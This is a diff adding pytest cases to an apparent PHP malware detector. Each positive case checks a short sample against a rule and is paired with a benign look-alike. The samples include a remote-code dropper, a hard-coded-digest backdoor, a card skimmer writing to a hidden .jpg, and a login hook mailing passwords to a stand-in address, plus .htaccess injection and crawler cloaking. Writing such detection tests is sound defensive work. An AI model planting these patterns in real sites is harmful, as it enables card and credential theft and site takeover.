@@ -74,3 +74,95 @@ def test_self_delete_and_timestomp():
 def test_touching_a_cache_file_now_is_not_timestomping():
     src = b"<?php touch($cache); unlink($tmp);"
     assert found(src) == set()
+
+
+def test_loader_writes_fetched_code_into_a_php_file():
+    src = (b"<?php function get($u) { $c = curl_init($u); return curl_exec($c); }\n"
+           b"$t = get('https://paste.example/raw/x');\n"
+           b"file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/wp-x.php', $t);")
+    assert 'php.dropper.fetched_php' in found(src)
+    assert suspicious(src)
+
+
+def test_caching_a_fetched_feed_is_not_a_loader():
+    src = (b"<?php $feed = file_get_contents('https://example.org/feed.xml');\n"
+           b"file_put_contents(__DIR__ . '/cache/feed.xml', $feed);")
+    f = found(src)
+    assert 'php.dropper.fetched_php' not in f
+    assert not suspicious(src)
+
+
+def test_backdoor_gate_on_a_hard_coded_digest():
+    src = b"<?php if (md5($_COOKIE['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') { echo 'ok'; }"
+    assert 'php.backdoor.hardcoded_key' in found(src)
+
+
+def test_digest_compared_with_a_stored_value_is_not_a_gate():
+    src = b"<?php if (md5($_POST['p']) === $row['hash']) { login(); } $v = '5f4dcc3b5aa765d61d8327deb882cf99';"
+    assert 'php.backdoor.hardcoded_key' not in found(src)
+
+
+def test_include_of_an_icon_spelled_in_escapes():
+    src = b'<?php @include "\\057ho\\155e/u\\163er/public_html/wp-includes/images/\\146avicon_1.ico";'
+    assert 'php.include.media_file' in found(src)
+
+
+def test_include_of_a_plain_php_file_is_not_hidden():
+    src = b"<?php include 'wp-includes/version.php'; require_once __DIR__ . '/lib/a.php';"
+    assert found(src) == set()
+
+
+def test_request_data_logged_into_an_image_named_file():
+    src = (b"<?php $fp = fopen('media/wysiwyg/cartcheckout.jpg', 'a+');\n"
+           b"$n = $_COOKIE['currentname']; fwrite($fp, $n . \"\\n\"); fclose($fp);")
+    assert 'php.steal.hidden_log' in found(src)
+
+
+def test_request_data_logged_into_a_log_file_is_not_hidden():
+    src = b"<?php file_put_contents('logs/access.log', $_SERVER['REQUEST_URI'] . \"\\n\", FILE_APPEND);"
+    assert 'php.steal.hidden_log' not in found(src)
+
+
+def test_skimmer_reading_cards_through_framework_accessors():
+    src = (b"<?php class SaveOrder { function execute() {\n"
+           b"  $pay = $this->getRequest()->getParam('payment', []);\n"
+           b"  $row = implode('|', [$pay['cc_number'], $pay['cc_cid']]);\n"
+           b"  @file_put_contents(BP . '/pub/media/.c.jpg', base64_encode(strrev($row)), FILE_APPEND); } }")
+    assert 'php.steal.card_data' in found(src)
+
+
+def test_gateway_posting_the_card_to_its_api_is_not_a_skimmer():
+    src = (b"<?php $ch = curl_init('https://api.gateway.example/v1/charges');\n"
+           b"curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['number' => $this->request->post['cc_number']]));\n"
+           b"curl_exec($ch);")
+    assert 'php.steal.card_data' not in found(src)
+
+
+def test_password_of_a_login_hook_mailed_to_a_fixed_address():
+    src = (b"<?php add_filter('authenticate', function ($user, $username, $password) {\n"
+           b"  @mail('collector@mailbox.example', 'wp', $username . ':' . $password); return $user; }, 1, 3);")
+    assert 'php.steal.credentials' in found(src)
+
+
+def test_welcome_mail_to_the_user_is_not_stealing():
+    src = b"<?php function welcome($email, $password) { mail($email, 'Welcome', 'Your password: ' . $password); }"
+    assert 'php.steal.credentials' not in found(src)
+
+
+def test_htaccess_rules_prepended_to_the_old_file():
+    src = (b"<?php $r = \"RewriteEngine On\\nRewriteRule ^(.*)\\\\.html$ /d.php?p=$1 [L]\\n\";\n"
+           b"$ht = $_SERVER['DOCUMENT_ROOT'] . '/.htaccess'; $old = file_get_contents($ht);\n"
+           b"file_put_contents($ht, $r . $old);")
+    assert 'php.dropper.server_config' in found(src)
+
+
+def test_cloaking_for_crawlers():
+    src = (b"<?php $ua = $_SERVER['HTTP_USER_AGENT']; if (stripos($ua, 'googlebot') !== false) {\n"
+           b"  echo file_get_contents('http://feed.example/spam?k=1'); exit; }")
+    assert 'php.seo.cloaking' in found(src)
+
+
+def test_skipping_analytics_for_crawlers_is_not_cloaking():
+    src = (b"<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n"
+           b"  echo '<script src=\"/stats.js\"></script>'; }")
+    assert 'php.seo.cloaking' not in found(src)
